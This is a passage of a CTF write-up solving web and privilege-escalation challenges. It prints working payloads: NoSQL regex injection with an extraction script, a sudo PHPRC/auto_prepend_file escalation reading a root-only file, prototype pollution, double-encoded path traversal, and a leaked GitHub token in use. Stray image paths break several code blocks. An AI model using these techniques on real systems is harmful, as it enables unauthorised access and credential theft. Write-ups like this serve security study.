            returnres.render("login",{error:"Your username is wrong"});
        }).catch((err)=>{return res.render("login",{error:"Your username is wrong"});});
        return res.redirect(302,"/login");

    if (req.params.username==process.env.REDACTED){
        return res.send("OK");
        return res.sendStatus(202);

In the docker image, there was no environment variables like process.env.REDACTED or other secrets. So to bypass the login function, our goal is to make the login function to request another page that returns always 200, like the home page.

# [202 NON OK]
$ curl -s '' -d 'username=toto' | grep 'Your username'
<p> Your username is wrong </p>

# -> [200 OK]
$ curl -s '' -d 'username=..#'
Found. Redirecting to /home

We are logged in ! So we can move on to the other functions that require a valid session like this one :

//Insert important infos in the DBvar services=[
client.connect(function (err){
    if (err) return res.render("register",{error:"An unknown error has occured"});
    const db=client.db("uchiha");
    const collection=db.collection("services");
    collection.insertMany(services,function(err, res) {
        if (err) console.log(err);
        console.log("Number of documents inserted: " + res.insertedCount);



        if (req.body.service){
            var query=JSON.parse(`{"Service":"${req.body.service}"}`);
                if (err) return res.render("service",{error:"An unknown error has occured"});
            const db=client.db("uchiha");
            const collection=db.collection("services");if (err) return res.render("service",{error:"An unknown error has occured"});
                if (result) {
                    return res.render("service",{error:"Service is UP"});
                else{ return res.render("service",{error:"Service is Down"})};
            return res.render("service",{error:"An unknown error has occured"});


else { return res.redirect(302,"/login");}


As you can see, we have a NoSQL Injection here, var query=JSON.parse(`{"Service":"${req.body.service}"}`);. Our new goal is to extract, process.env.USERNAME, PASSWORD and IP from the Mongo database.

As we control the variable req.body.service, we can inject the JSON like this :$ node
Welcome to Node.js v17.2.0.
Type ".help" for more information.
> JSON.parse(`{"Service":"ssh"}`); // classic usage
{ Service: 'ssh' }

> JSON.parse(`{"Service":"","username": {"$regex":".*"},"Service":"ssh"}`); // malicious usage
{ Service: 'ssh', username: { '$regex': '.*' } }

// payload : ","username": {"$regex":".*"},"Service":"ssh

Let’s find the length of the username using the $regex operator in NoSQL :$ curl -s -b 'connect.sid=s%3AYUHeat2BUi4PCADQZzMQQRmy0FuWgdms.r3f3nKAR01m3usl4oMuL7A9aqFcU3xTx%2FKqhHK1MZso' \
    -d 'service=","username":{"$regex":"^.{10}$"},"Service":"ssh' | grep 'Service is'
<p> Service is Down </p>

$ curl -s -b 'connect.sid=s%3AYUHeat2BUi4PCADQZzMQQRmy0FuWgdms.r3f3nKAR01m3usl4oMuL7A9aqFcU3xTx%2FKqhHK1MZso' \
    -d 'service=","username":{"$regex":"^.{8}$"},"Service":"ssh' | grep 'Service is'
<p> Service is Down </p>

$ curl -s -b 'connect.sid=s%3AYUHeat2BUi4PCADQZzMQQRmy0FuWgdms.r3f3nKAR01m3usl4oMuL7A9aqFcU3xTx%2FKqhHK1MZso' \
    -d 'service=","username":{"$regex":"^.{9}$"},"Service":"ssh' | grep 'Service is'
<p> Service is UP </p>

The username has a length of 9 characters. I use the following python script to extract the content of the username variable.

#!/usr/bin/env python3
from requests import post
from string import printable

cookies = {'connect.sid': 's%3AYUHeat2BUi4PCADQZzMQQRmy0FuWgdms.r3f3nKAR01m3usl4oMuL7A9aqFcU3xTx%2FKqhHK1MZso'
username = ""

print("Username : ", end="", flush=True)

for _ in range(9):
    for c in printable:
        data = {'service': '","username":{"$regex":"^' + username + c +  '.*$"},"Service":"ssh'

        req = post("", data=data, cookies=cookies)
        if "Service is UP" in req.text:
            print(c, end="", flush=True)
            username += c
$ python3 nosqli.py
Username : shisuiedo

We can do the same with the password and IP address. After a nmap scan on the target IP, the port 1337 shows up as an SSH service. Let’s try to log in with our username and password.

$ sshpass -p 'YogoshaxShisui' ssh shisuiedo@ -p 1337
 _   _      _     _ _
| | | | ___| |__ (_) |__   __ _
| | | |/ __| '_ \| | '_ \ / _` |
| |_| | (__| | | | | | | | (_| |
 \___/ \___|_| |_|_|_| |_|\__,_|

4. Uchiha As A Service (23 solves) #

Privilege Escalation

Description : Uchihas run services now ? That’s nice! The final challenge will be posted the 27th of December :D the flag you found is fake stay tuned! final part will be published so soon.

I came accross a file named secret.txt which is only readable by root and the user-privileged group. I think it’s time for a privilege escalation.

user1@e8fcb257d4c5:/home/user1$ ls -al
-rwxr----- 1 root  user-privileged  137 Dec 28 00:42 secret.txt

We can run /usr/local/bin/php /dev/null as user-privileged using sudo. You can notice that we keep environment variables like HOSTNAME and PHPRC.

user1@e8fcb257d4c5:/home/user1$ sudo-l
Matching Defaults entries for user1 on e8fcb257d4c5:
    mail_badpass, secure_path=/usr/local/sbin\:/usr/local/bin\:/usr/sbin\:/usr/bin\:/sbin\:/bin\:/snap/bin,

User user1 may run the following commands on e8fcb257d4c5:
    (user-privileged) NOPASSWD: /usr/local/bin/php /dev/null

After some research, I found this blog which explains how to run PHP command with the two environment variables. The goal is to change the default PHP configuration file to be able to execute arbitrary bash command.

user1@e8fcb257d4c5:/home/user1$ sudo -u user-privileged \
    $'HOSTNAME=1;\nauto_prepend_file=/proc/self/environ\n;<?php die(`cat /home/user1/secret.txt`); ?>' \
    PHPRC=/proc/self/environ /usr/local/bin/php /dev/null


5. Final Beast (18 solves) #


Description : You have really made it here! Save Konoha pleasee you c an do it I’m sure!! Put them under your guinjutsu now! Thanks for sticking till the end! We hope you enjoyed the challenges and had fun \o/ Your feedbacks are welcome :D

Hint : Pollution in Konoha is really bad :(

Let’s begin with the last challenge of the CTF, we have a link to a Github repository (https://github.com/shisuiYogo/killer) but this lead us to a 404 not found, maybe the repository is notpublic.

We also have a token, Token=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, which corresponds to a Github API token. After some research, I found that we can download the contents of a repository as a .tar archive using the Github API.

$ curl -L -H "Authorization: token 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" \
    -H "Accept: application/vnd.github.v3+json" \
    'https://api.github.com/repos/shisuiYogo/killer/tarball/main' \
    -o killer.tar
  % Total    % Received % Xferd  Average Speed   Time    Time     Time  Current
                                 Dload  Upload   Total   Spent    Left  Speed
  0     0    0     0    0     0      0      0 --:--:-- --:--:-- --:--:--     0
100 5475k    0 5475k    0     0  3430k      0 --:--:--  0:00:01 --:--:-- 9432k

$ file killer.tar
killer.tar: gzip compressed data, from Unix, original size modulo 2^32 5857280
$ tar xvf killer.tar
cd shisuiYogo-killer-47fc716ef0d6b0b72b34b94fc7ec6038fb6002f9
$ ls -l
total 72
drwxr-xr-x 3 xanhacks xanhacks  4096 Dec 27 16:56 docker
-rw-r--r-- 1 xanhacks xanhacks   534 Dec 27 16:56 docker-compose.yml
-rw-r--r-- 1 xanhacks xanhacks    18 Dec 31 14:31 flag.txt
-rw-r--r-- 1 xanhacks xanhacks 57191 Dec 27 16:56 package-lock.json
drwxr-xr-x 5 xanhacks xanhacks  4096 Dec 31 14:30 src

Unfortunately, the file flag.txt does not contains the actual flag. The docker-compose.yml tells us an IP address for production deployment.

$ cat docker-compose.yml
version: "3.8"
    image: mongo
    restart: unless-stopped
      dockerfile: docker/node/Dockerfile
      context: .
    image: hell
      MONGO_URL: mongodb://REDACTED:REDACTED@mongo:27017
    restart: unless-stopped
      - ""
      - mongo
#Deploy it on please everything is good so far

The real flag seems to be at /flag.txt inside the docker named node.$ cat docker/node/Dockerfile
FROM node
WORKDIR /data/
COPY ./src/flag.txt /
COPY ./src/index.js .
COPY ./src/static /data/static
COPY ./src/views /data/views
COPY ./src/package.json .
RUN npm install
CMD node index.js

Let’s take look at the source code of the NodeJS application, we have two interesting functions :


const UNSAFE_KEYS = ["__proto__", "constructor", "prototype"];

const merge = (obj1, obj2) => {for (let key of Object.keys(obj2)) {
    if (UNSAFE_KEYS.includes(key)) continue;
    const val = obj2[key];
    key = key.trim();
    if (typeof obj1[key] !== "undefined" && typeof val === "object") {
      obj1[key] = merge(obj1[key], val);
    } else {
      obj1[key] = val;

  return obj1;


        //implement a filter for usernames starting only with uchiha! We are racist in Uchiha clan
        const filter={};
        if(req.session.isAdmin && req.session.username){
                var filename=req.body.filename;
                if (filename.includes("../")){
                        return res.send("No No Sorry");
                        const data = fs.readFileSync(path.normalize("./"+filename), 'utf8');
                        return res.send(data);
                res.send("Not Authorized");


The merge function makes me think about protoype pollution (the hint of the challenge talk about pollution too). The /guinjutsu route allows us to read the content of a file. Let’s try to read the /flag.txt file.

To bypass the filter against __proto__, we can use __proto__ (with a blank space at the end). Now, let’s create a fake session to bypass the following condition if(req.session.isAdmin && req.session.username){.

To do that, we can use the two following parameters __proto__ [isAdmin]=true&__proto__ [username]=toto to add default properties to all JS objects. Remembers that the request body is send to the merge function which is vulnerable to prototype pollution. Now,that we have a valid session, we just need to specify the filename path.However, the filename cannot contains ../, to bypass this, we can use a simple trick : double URL encoding.

$ curl \
    -d "__proto__ [isAdmin]=true&__proto__ [username]=toto&filename=%2E%2E/flag.txt"
No No Sorry
$ curl \
    -d "__proto__ [isAdmin]=true&__proto__ [username]=toto&filename=%252E%252E/flag.txt"

Conclusion #

It was a very good CTF with interesting and varied challenges. Here is a summary of thedifferent skills required to validate the 5 CTF challenges :

1. Welcome Christmas (169 solves)

- OSINT basedon social media and exif data.

2. Uchiha Or Evil ? (53 solves)

- Length extension attack in Crypto
- PHP code audit
    - Bypass parse_url filter

3. Js and Uchiha Are Evils (26 solves)

- NodeJS code audit
